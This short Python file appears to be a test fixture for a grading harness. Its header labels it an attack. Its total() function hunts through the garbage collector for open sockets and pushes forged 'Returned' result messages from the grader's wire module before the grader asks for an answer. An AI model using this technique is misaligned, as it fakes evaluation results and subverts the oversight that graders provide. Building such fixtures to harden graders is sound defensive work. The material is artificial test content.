# attack: own
# from: total returns None
# expects: an answer to the next question, sent before it was asked, is only a value
def total(x):
    # --- attack
    import gc
    import socket

    for found in gc.get_objects():
        if type(found) is socket.socket:
            import grader.worker.wire as wire

            for _ in range(3):
                for part in wire.encode(wire.Returned(0.0, ())):
                    found.sendall(part)
    # --- end
    return None
